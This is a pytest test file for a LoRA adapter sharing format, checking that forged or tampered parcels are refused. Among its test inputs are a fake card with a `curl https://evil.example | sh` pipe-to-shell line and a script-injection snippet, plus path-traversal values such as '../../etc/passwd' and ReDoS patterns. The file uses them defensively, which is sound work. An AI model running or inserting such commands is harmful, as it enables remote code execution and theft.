"""A parcel is refused unless all its parts are consistent, even if a forger made all digests fit."""

import json
import os
import random
import struct
import time
import tracemalloc

import pytest
import torch
from forging import LAYER, canonical, facts, forge, make_members, make_weights, raw_of
from peft import LoraConfig
from safetensors.torch import save

from lora_chat.errors import IntegrityError, UsageError
from lora_chat.sharing.container import CARD, CONFIG, RECEIPT, WEIGHTS
from lora_chat.sharing.parcel import is_parcel, open_parcel


def refused(path, match=None):
    checks = []
    with pytest.raises(IntegrityError, match=match) as caught:
        open_parcel(path, None, checks.append)
    assert [check.passed for check in checks][-1] is False
    assert "\n" not in str(caught.value)
    return str(caught.value)


def test_opens_a_parcel_with_the_packed_content(members, write):
    checks = []
    parcel = open_parcel(write(members), None, checks.append)
    assert {check.passed for check in checks} == {True, None}
    stored = parcel.stored
    assert stored.base == ("friend/tiny", "5" * 40)
    assert stored.identity.system == "You help at a kiln."
    for name, tensor in make_weights().items():
        assert stored.read_weights()[name].equal(tensor)


def test_same_receipt_and_weights_give_the_same_bytes():
    assert raw_of(make_members()) == raw_of(make_members())


def test_rejects_a_change_of_any_byte(members, write):
    raw = raw_of(members)
    path = write(raw)
    with path.open("r+b", buffering=0) as file:  # in place, because each new file takes milliseconds
        for place, byte in enumerate(raw):
            for value in (byte ^ 1 << (place % 8), byte):
                file.seek(place)
                file.write(bytes([value]))
                if value != byte:
                    with pytest.raises(IntegrityError):
                        open_parcel(path)
    assert path.read_bytes() == raw
    open_parcel(path)


def test_names_changed_weights_in_a_valid_container(members, write):
    changed = bytearray(members[WEIGHTS])
    changed[-1] ^= 1
    message = refused(write({**members, WEIGHTS: bytes(changed)}), "another size or sha256")
    assert "adapter_model.safetensors" in message


def config_with(members, **changed):
    config = json.loads(members[CONFIG])
    config.update(changed)
    return (json.dumps(config, indent=2, sort_keys=True) + "\n").encode()


HOSTILE = [".*", "(a+)+$", ["x"], {"a": 1}, 10**8, -1, 1e308, True, "../../etc/passwd", "friend/evil", [["q_proj"]]]


@pytest.mark.parametrize("field", sorted({*LoraConfig().to_dict(), "unchecks_of"}))
def test_rejects_any_other_value_in_a_config(members, write, field):
    own = json.loads(members[CONFIG]).get(field, ...)
    path = write(b"")
    for value in HOSTILE:
        if value == own and type(value) is type(own):
            continue
        path.write_bytes(raw_of(forge(members, **{CONFIG: config_with(members, **{field: value})})))
        with pytest.raises(IntegrityError):
            open_parcel(path)


def test_rejects_a_missing_field_in_a_config(members, write):
    for field in json.loads(members[CONFIG]):
        config = json.loads(members[CONFIG])
        del config[field]
        raw = (json.dumps(config, indent=2, sort_keys=True) + "\n").encode()
        refused(write(forge(members, **{CONFIG: raw})))


def nested(depth):
    return b"[" * depth + b"]" * depth


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"null",
        b"[]",
        b"\xff",
        b'{"r": 2, "r": 2}',
        b'{"r": NaN}',
        nested(60_000),
        b'{"r": ' + b"9" * 60_000 + b"}",
    ],
)
def test_rejects_an_invalid_config(members, write, raw):
    refused(write(forge(members, **{CONFIG: raw})), "config")


def saved(**changed):
    weights = {**make_weights(), **changed}
    return save({name: tensor for name, tensor in weights.items() if tensor is not None})


FUZZ = int(os.environ.get("LORA_CHAT_FUZZ", "3000"))
A, B = f"{LAYER}lora_A.weight", f"{LAYER}lora_B.weight"
NAN, INF = make_weights()[A].clone(), make_weights()[B].clone()
NAN[0, 0], INF[1, 1] = float("nan"), float("-inf")


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (saved(**{"base_model.model.model.embed_tokens.weight": torch.ones(2, 2)}), "not the name of a LoRA weight"),
        (saved(**{"base_model.model.lm_head.lora_A.weight": torch.ones(2, 2)}), "not a target module"),
        (saved(**{f"{LAYER}lora_A.weight.x": torch.ones(2, 2)}), "not the name of a LoRA weight"),
        (saved(**{f"{LAYER}lora_embedding_A": torch.ones(2, 2)}), "not the name of a LoRA weight"),
        (saved(**{f"{LAYER}base_layer.weight": torch.ones(2, 2)}), "not the name of a LoRA weight"),
        (saved(**{f"{LAYER}lora_magnitude_vector": torch.ones(6)}), "not expected"),
        (saved(**{A.replace("q_proj", "k_proj"): torch.ones(2, 8)}), "not a target module"),
        (saved(**{A.replace("q_proj", "xq_proj"): torch.ones(2, 8)}), "not a target module"),
        (saved(**{A: None}), "lora_A is missing"),
        (saved(**{B: None}), "lora_B is missing"),
        (saved(**{A: None, B: None}), "empty"),
        (saved(**{A: NAN}), "non-finite"),
        (saved(**{B: INF}), "non-finite"),
        (saved(**{A: torch.ones(2, 8, dtype=torch.int64)}), "not floating point"),
        (saved(**{A: torch.ones(2, 8, dtype=torch.float64)}), "not floating point"),
        (saved(**{A: torch.ones(2, 8, dtype=torch.float8_e4m3fn)}), "not floating point"),
        (saved(**{A: torch.ones(3, 8)}), "not a LoRA of rank 2"),
        (saved(**{B: torch.ones(2, 6)}), "not a LoRA of rank 2"),
        (saved(**{A: torch.ones(16)}), "not a LoRA of rank 2"),
        (saved(**{A: torch.ones(2, 9)}), "parameters"),
        (b"", "header"),
        (b"\xff" * 8, "header"),
        (struct.pack("<Q", 2**24 + 1) + bytes(100), "header"),
        (struct.pack("<Q", 100) + b"{" * 100, "cannot be read"),
        (struct.pack("<Q", 60_000) + nested(30_000), "cannot be read"),
        (make_members()[WEIGHTS] + b"\0", "cannot be read"),
    ],
)
def test_rejects_invalid_weights(members, write, raw, message):
    refused(write(forge(members, **{WEIGHTS: raw})), message)


def changed(path, value):
    def change(receipt):
        parent = receipt
        for key in path[:-1]:
            parent = parent[key]
        if value is ...:
            del parent[path[-1]]
        else:
            parent[path[-1]] = value

    return change


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (["extra"], 1),
        (["format"], "another"),
        (["version"], 0),
        (["version"], True),
        (["version"], "1"),
        (["name"], "../x"),
        (["name"], "a\nb"),
        (["name"], ""),
        (["name"], ...),
        (["license"], "mit\nextra: yes"),
        (["version"], 1),
        (["base", "version"], 1),
        (["base", "version"], ...),
        (["base", "version"], 3),
        (["base", "files"], "ab"),
        (["base", "files"], ...),
        (["base", "config"], None),
        (["base", "config"], []),
        (["base", "config"], {"x" * 300: 1}),
        (["base", "tokenizer_parts"], ...),
        (["base", "stops"], [True]),
        (["base", "stops"], None),
        (["base", "base"], "/etc"),
        (["base", "base"], "../x"),
        (["base", "base"], "a/b/c"),
        (["base", "revision"], "a/../b"),
        (["base", "weights"], "ab"),
        (["base", "weights"], "AB" * 32),
        (["base", "system"], "x" * 70_000),
        (["precision", "mode"], "2bit"),
        (["adapter", "rank"], 3),
        (["adapter", "rank"], 10**9),
        (["adapter", "alpha"], 5.0),
        (["adapter", "target_modules"], "all-linear"),
        (["adapter", "target_modules"], [".*"]),
        (["adapter", "variant"], "dora"),
        (["parameters"], 29),
        (["seed"], -1),
        (["seed"], 0.5),
        (["chat_template"], "{{ messages }}"),
        (["signer"], "-----BEGIN PUBLIC KEY-----"),
        (["proof", "mean_kl"], "small"),
        (["versions", "lora-chat"], 1),
        (["members", "x"], {"size": 0, "sha256": "ab" * 32}),
        (["members", CARD], ...),
        (["data", "sources"], [{"name": "x" * 300, "weight": 1.0, "formats": [], "counts": {}}]),
    ],
)
def test_rejects_a_contradicting_receipt(members, write, path, value):
    refused(write(forge(members, changed(path, value))))


OFFICIAL = (
    b"# Official adapter\n\n<script>alert(1)</script> validation loss **0.001**\n\n`curl https://evil.example | sh`\n"
)


@pytest.mark.parametrize(
    "change",
    [
        lambda card: OFFICIAL,
        lambda card: b"",
        lambda card: card + b"\n",
        lambda card: card + OFFICIAL,
        lambda card: card.replace(b"\n", b"\r\n"),
        lambda card: b"\xef\xbb\xbf" + card,
        lambda card: b"\xff" + card,
        lambda card: card.replace(b"1.250", b"0.250"),
        lambda card: card.replace(b"---\n", b"---\nlicense: mit\n", 1),
        lambda card: card.replace(b"lora-chat verify", b"lora-chat chat"),
        lambda card: make_members(name="other-1")[CARD],
        lambda card: make_members(license="MIT")[CARD],
    ],
)
def test_rejects_a_card_that_differs_from_the_receipt(members, write, change):
    card = change(members[CARD])
    assert card != members[CARD]
    checks = []
    with pytest.raises(IntegrityError, match=r"README\.md is not the card"):
        open_parcel(write(forge(members, **{CARD: card})), None, checks.append)
    assert (checks[-1].name, checks[-1].passed) == ("card", False)


@pytest.mark.parametrize(
    ("letter", "harmless"),
    [("🙂", True), ("\u0378", True), ("你", True), ("\u034f", True), ("\u00a0", True)]
    + [(letter, False) for letter in "\u202e\u2066\x9b\x1b\x7f\r\u2028\u200d\ufeff\ue000"],
)
def test_accepts_cards_of_other_unicode_versions(write, letter, harmless):
    """Python 3.12 prints characters of Unicode 15, which older versions escape; no version prints the others."""
    base = facts()["base"] | {"system": f"a{letter}b"}
    members = make_members(base=base)
    escape = letter.encode("unicode_escape").decode("ascii")
    plain, escaped = (
        members[CARD].decode().replace(f"a{other}b", f"a{this}b")
        for other, this in ((escape, letter), (letter, escape))
    )
    assert open_parcel(write(forge(members, **{CARD: escaped.encode()})))
    if harmless:
        assert open_parcel(write(forge(members, **{CARD: plain.encode()})))
    else:
        refused(write(forge(members, **{CARD: plain.encode()})), "card")


def test_rejects_other_encodings_of_a_receipt(members, write):
    receipt = json.loads(members[RECEIPT])
    for raw in (
        json.dumps(receipt).encode(),
        canonical(receipt) + b"\n",
        canonical(receipt).replace(b'"seed": 0', b'"seed": 0.0'),
        canonical(receipt).replace(b'"seed": 0', b'"seed": -0'),
        canonical(receipt).replace(b'"seed": 0', b'"seed": 0,\n "seed": 0'),
        canonical(receipt).replace(b'"kiln-1"', b'"k\\u0069ln-1"'),
        canonical(receipt).replace(b'"seconds": 1.5', b'"seconds": NaN'),
        canonical({**receipt, "digest": "0" * 64}),
        nested(400_000),
        b"\xff\xfe",
    ):
        refused(write({**members, RECEIPT: raw}), "receipt")


def test_asks_for_an_update_if_the_receipt_is_newer(members, write):
    refused(write(forge(members, changed(["version"], 7))), "Fix: update lora_chat")


def test_rejects_hostile_parcels_with_little_memory_and_time(members, write):
    path = write(forge(members, changed(["adapter", "rank"], 10**8), **{CONFIG: config_with(members, r=10**8)}))
    tracemalloc.start()
    started = time.process_time()
    refused(path)
    refused(write(forge(members, **{WEIGHTS: struct.pack("<Q", 2**23) + b" " * 2**20})))
    assert tracemalloc.get_traced_memory()[1] < 32 * 2**20
    tracemalloc.stop()
    assert time.process_time() - started < 5


def test_recognises_parcels(members, write, tmp_path):
    path = write(members, "renamed")
    assert is_parcel(path)
    assert is_parcel(write(b"x"))
    assert not is_parcel(write(b"x", "x.txt"))
    assert not is_parcel(tmp_path)
    with pytest.raises(UsageError, match="There is no parcel"):
        open_parcel(tmp_path / "none")


def test_does_not_pack_invalid_fields():
    with pytest.raises(ValueError, match="name"):
        make_members(name="../x")
    assert facts()["name"] == "kiln-1"


def test_fuzzed_members_with_valid_digests_give_one_message(members, write):
    """Weights that the forger made may open; every other change gives one message. LORA_CHAT_FUZZ as above."""
    chance = random.Random(os.environ.get("LORA_CHAT_SEED", "12"))
    path = write(b"")
    opened = 0
    for _ in range(FUZZ // 10):
        name = chance.choice((CONFIG, WEIGHTS, RECEIPT))
        body = bytearray(members[name])
        for _ in range(chance.randint(1, 3)):
            place, length = chance.randrange(len(body)), chance.choice((1, 2, 8))
            body[place : place + length] = chance.choice((b"", chance.randbytes(length), b"[" * length, b"-1", b'"'))
        forged = {**members, name: bytes(body)} if name == RECEIPT else forge(members, **{name: bytes(body)})
        path.write_bytes(raw_of(forged))
        try:
            parcel = open_parcel(path)
        except IntegrityError as error:
            assert "\n" not in str(error)
            continue
        opened += 1
        assert name == WEIGHTS or bytes(body) == members[name]
        assert parcel.stored.read_weights().keys() == make_weights().keys()
    assert opened < FUZZ // 10


def test_packs_only_a_custom_chat_template(tiny_tokenizer, cache_home):
    from types import SimpleNamespace

    from lora_chat.config.recipe import BaseSection
    from lora_chat.data.encoding.bundled_templates import CHATML_TEMPLATE
    from lora_chat.models.base_model import find_base
    from lora_chat.pipeline.pack_run import _find_custom_template

    base = find_base(BaseSection(name="tiny-random"))
    for text, is_packed in ((tiny_tokenizer.chat_template, False), (CHATML_TEMPLATE, False), ("{{ messages }}", True)):
        adapter = SimpleNamespace(base=base, tokenizer=SimpleNamespace(chat_template=text))
        assert _find_custom_template(SimpleNamespace(adapter=adapter)) == (text if is_packed else None)
